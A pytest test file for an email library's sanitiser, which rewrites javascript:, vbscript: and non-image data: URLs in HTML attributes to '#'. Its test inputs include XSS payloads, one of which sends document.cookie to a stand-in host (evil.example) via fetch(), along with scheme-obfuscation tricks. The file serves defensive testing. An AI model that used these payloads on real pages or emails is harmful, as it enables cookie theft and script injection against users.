"""URLs that run code (``javascript:``, ``vbscript:``, ``data:`` but images) never reach a sent email."""

from __future__ import annotations

import pytest

from nurtureflow.sending.unsafe_urls import neutralise_unsafe_urls


@pytest.mark.parametrize(
    "value",
    [
        "javascript:fetch(&#34;//evil.example/&#34;+document.cookie)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",  # browsers drop tabs and newlines inside a scheme
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
        "data:image/svg+xml;base64,PHN2Zz4=",
    ],
)
def test_a_link_that_would_run_code_points_nowhere(value: str) -> None:
    html = f'<p>Hi <a href="{value}" title="t">site</a></p>'
    assert neutralise_unsafe_urls(html) == '<p>Hi <a href="#" title="t">site</a></p>'


def test_every_url_attribute_is_checked_and_quoting_is_kept() -> None:
    html = (
        "<img src='javascript:x' alt=a><form action=javascript:x><button formaction=\"vbscript:x\">"
        '<table background="data:text/html,x"><a HREF="javascript:y">'
    )
    assert neutralise_unsafe_urls(html) == (
        '<img src=\'#\' alt=a><form action="#"><button formaction="#"><table background="#"><a HREF="#">'
    )


def test_ordinary_links_and_everything_else_are_left_byte_for_byte() -> None:
    html = (
        '<!doctype html><a href="https://shop.example/?a=1&amp;b=2">x</a> <a href="mailto:a@b.c">m</a>'
        '<a href="tel:+331">t</a><a href="#top">top</a><a href="/rel">r</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">'
        "<p>javascript: is a word here</p><script>var u = 'javascript:x';</script>"
        '<!-- <a href="javascript:x"> -->'
    )
    assert neutralise_unsafe_urls(html) == html
